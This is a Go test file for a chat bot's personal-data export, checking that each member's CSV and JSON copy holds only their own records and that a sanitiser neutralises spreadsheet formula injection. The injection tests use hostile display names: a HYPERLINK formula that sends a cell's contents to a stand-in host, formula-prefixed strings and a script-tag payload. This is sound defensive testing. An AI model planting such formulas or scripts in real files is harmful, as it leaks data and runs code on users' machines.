package effects

import (
	"bytes"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"

	"mboka/bot"
	"mboka/locales"
	"mboka/store"
	"mboka/store/seal"
	"mboka/store/storetest"
)

var morning = time.Date(2026, 11, 24, 8, 0, 0, 0, time.UTC)

// person registers somebody on Telegram whose name is as given.
func person(t *testing.T, r Records, address, number, name string) (uuid.UUID, seal.Chat) {
	t.Helper()
	ctx, id, chat := t.Context(), uuid.New(), r.Keys.Chat("telegram", address)
	err := r.DB.Write(ctx, func(tx *store.Tx) error {
		for _, step := range []func() error{
			func() error {
				return tx.CreateMember(ctx, store.Member{ID: id, Language: "ln", CreatedAt: morning})
			},
			func() error {
				return tx.PutAddress(ctx, store.Address{Chat: chat, MemberID: id, Channel: "telegram", Address: address, CreatedAt: morning, LastInboundAt: morning.Add(time.Hour), LastMessageID: "upd" + address})
			},
			func() error {
				return tx.PutAddress(ctx, store.Address{Chat: r.Keys.Chat("whatsapp", "whatsapp:+3247"+address), MemberID: id, Channel: "whatsapp", Address: "whatsapp:+3247" + address, CreatedAt: morning.Add(time.Minute)})
			},
			func() error { return tx.RegisterMember(ctx, id, number, morning) },
			func() error { return tx.SetRecovery(ctx, id, r.Keys.CodeHash("recovery", "WXYZ6789Q")) },
			func() error {
				return tx.RecordConsent(ctx, store.Consent{ID: uuid.New(), MemberID: id, Purpose: "register", Granted: true, NoticeVersion: "7", Language: "ln", Channel: "telegram", At: morning, MessageID: "tap" + address})
			},
			func() error {
				return tx.RecordConsent(ctx, store.Consent{ID: uuid.New(), MemberID: id, Purpose: "missions", NoticeVersion: "7", Language: "ln", Channel: "telegram", At: morning.Add(time.Hour), MessageID: "no" + address})
			},
			func() error {
				return tx.PutAnswers(ctx, id, morning, []store.Answer{
					{Step: "age_band", Codes: []string{"35_44"}}, {Step: "languages", Codes: []string{"fr", "ln"}},
					{Step: "profession", Codes: []string{"other"}, Text: "Dresseur; de zibelines"},
					{Step: "province_origin", Codes: []string{"kivus", "CD-NK"}}, {Step: "display_name", Text: name},
				})
			},
			func() error {
				return tx.PutDraft(ctx, store.Draft{Chat: chat, Flow: "registration", Version: 1, Step: "sex", Skipped: []string{"sector"}}, morning)
			},
		} {
			if err := step(); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return id, chat
}

func copied(t *testing.T, r Records, chat seal.Chat, lang locales.Lang) (table, doc []byte) {
	t.Helper()
	fact, err := r.copies(t.Context(), bot.Looking{Chat: chat, Lang: lang})
	if err != nil {
		t.Fatal(err)
	}
	files, _ := fact.Args[bot.CopyFiles].([]bot.File)
	if len(files) != 2 || files[0].Name != "mboka.csv" || files[1].Name != "mboka.json" {
		t.Fatalf("%d files", len(files))
	}
	return files[0].Data, files[1].Data
}

func TestCopyHoldsEverythingOfThisPersonOnly(t *testing.T) {
	t.Parallel()
	db := storetest.Postgres(t)
	r := Records{DB: db, Keys: db.Keys()}
	id, chat := person(t, r, "4711", "ABC234", "Mama Béa")
	person(t, r, "1234", "XYZ789", "Inconnu")
	fr := locales.FR
	if fact, err := r.copies(t.Context(), bot.Looking{Chat: r.Keys.Chat("telegram", "99"), Lang: fr}); err != nil || fact.Args != nil {
		t.Errorf("of nobody: %v %v", fact.Args, err)
	}
	csvFile, jsonFile := copied(t, r, chat, fr)
	for what, file := range map[string]string{"CSV": string(csvFile), "JSON": string(jsonFile)} {
		for _, there := range []string{
			"ABC-234", "Mama Béa", "35_44", "35-44 ans", "Dresseur; de zibelines", "Nord-Kivu", "CD-NK", "telegram", "4711", "whatsapp:+32474711", "upd4711",
			"register", "missions", "garder mes réponses", "tap4711", "no4711", "2026-11-24T08:00:00Z", "2026-11-24T09:00:00Z", "sector", "sex",
		} {
			if !strings.Contains(file, there) {
				t.Errorf("%s lacks %q", what, there)
			}
		}
		for _, secret := range []string{
			"Inconnu", "XYZ-789", "1234", chat.String(), id.String(), hex.EncodeToString(r.Keys.CodeHash("recovery", "WXYZ6789Q")), "hash", "recovery", "sealed",
		} {
			if strings.Contains(file, secret) {
				t.Errorf("%s holds %q", what, secret)
			}
		}
	}
	var got kept
	if err := json.Unmarshal(jsonFile, &got); err != nil {
		t.Fatal(err)
	}
	if len(got.Answers) != 5 || len(got.Consents) != 2 || len(got.Addresses) != 2 || len(got.Drafts) != 1 || got.Consents[1].Granted || got.Member.Language != "ln" {
		t.Errorf("read back: %+v", got)
	}
	again, _ := copied(t, r, chat, fr)
	if !bytes.Equal(again, csvFile) {
		t.Error("the same records give another file")
	}
	for _, lang := range locales.Langs {
		table, doc := copied(t, r, chat, lang)
		title := locales.LabelOf(locales.TAgeBand).In(lang)
		if !strings.Contains(string(table), title) || !strings.Contains(string(doc), title) {
			t.Errorf("%s: no title %q", lang, title)
		}
	}
}

func TestHostileNames(t *testing.T) {
	t.Parallel()
	db := storetest.Postgres(t)
	r := Records{DB: db, Keys: db.Keys()}
	for i, name := range []string{
		`=HYPERLINK("http://x.example/"&A1;"ici")`, "+32 cmd", "-1+1", "@SUM(1)", "\t=1", "x;=1+1", `x",=1`, "<script>alert(1)</script>", "＝1", "a\r\n=2",
	} {
		_, chat := person(t, r, "47"+string(rune('0'+i)), "ABC23"+string(rune('A'+i)), name)
		table, doc := copied(t, r, chat, locales.FR)
		var k kept
		if err := json.Unmarshal(doc, &k); err != nil || k.Answers[len(k.Answers)-2].Text != name {
			t.Errorf("%q: JSON has %q (%v)", name, k.Answers[len(k.Answers)-2].Text, err)
		}
		if bytes.ContainsAny(doc, "<>&") {
			t.Errorf("%q: JSON could be read as a page", name)
		}
		// However a spreadsheet is set, no cell of it begins with a sign.
		for _, comma := range []rune{',', ';', '\t', '|'} {
			for line := range strings.SplitSeq(strings.TrimPrefix(string(table), "\ufeff"), "\n") {
				reader := csv.NewReader(strings.NewReader(line))
				reader.Comma, reader.LazyQuotes = comma, true
				cells, _ := reader.Read() // of a cut line: what there is
				for _, cell := range cells {
					if cell = strings.Trim(cell, " \""); cell != "" && strings.ContainsAny(cell[:1], "=+-@\t") {
						t.Errorf("%q, cells apart by %q: one begins with %q", name, comma, cell)
					}
				}
			}
		}
		rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(table, []byte("\ufeff")))).ReadAll()
		if err != nil || len(rows) < 10 {
			t.Errorf("%q: %d rows, %v", name, len(rows), err)
		}
	}
}

func TestHarmless(t *testing.T) {
	t.Parallel()
	for cell, want := range map[string]string{
		"": "", "Mado": "Mado", "Jean-Paul + fils": "Jean-Paul + fils", "a=b": "a=b", "'": "'", "2026-11-24": "2026-11-24",
		"=1": "'=1", "+1": "'+1", "-1": "'-1", "@x": "'@x", "\tx": "'\tx", "\rx": "'\rx", " =1": " '=1", "\u00a0=1": "\u00a0'=1",
		"\t=1": "'\t'=1", "\t\t=1": "'\t'\t'=1", "a;=1": "a;'=1", "a; -1": "a; '-1", "a,+1": "a,'+1", "a\n@b": "a\n'@b", `"=1`: `"'=1`, "|=": "|'=",
		"＝1": "'＝1", "'=1": "'=1", "==": "'==",
	} {
		if got := bot.Harmless(cell); got != want {
			t.Errorf("%q becomes %q, want %q", cell, got, want)
		}
	}
}

func FuzzHarmless(f *testing.F) {
	f.Add("=1;\t=\t\r+|-")
	f.Fuzz(func(t *testing.T, cell string) {
		got := bot.Harmless(cell)
		if bot.Harmless(got) != got {
			t.Errorf("%q becomes %q", cell, got)
		}
		if strings.ReplaceAll(got, "'", "") != strings.ReplaceAll(cell, "'", "") {
			t.Errorf("%q lost something: %q", cell, got)
		}
	})
}
